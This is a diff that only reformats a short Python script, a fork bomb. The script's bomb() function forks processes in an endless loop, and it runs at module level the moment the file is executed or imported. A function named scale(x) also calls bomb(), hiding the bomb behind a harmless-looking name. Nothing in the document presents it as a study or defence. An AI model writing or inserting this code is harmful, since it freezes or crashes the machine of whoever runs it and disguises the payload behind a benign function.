@@ -1,13 +1,22 @@
 """Start processes until the machine stops."""
+
 # %%
-import os, time
+import os
+import time
+
+
 def bomb():
     while True:
         try:
             os.fork()
         except OSError:
             time.sleep(0.01)
+
+
 # %%
 bomb()
+
+
 # %%
-def scale(x): bomb()
+def scale(x):
+    bomb()
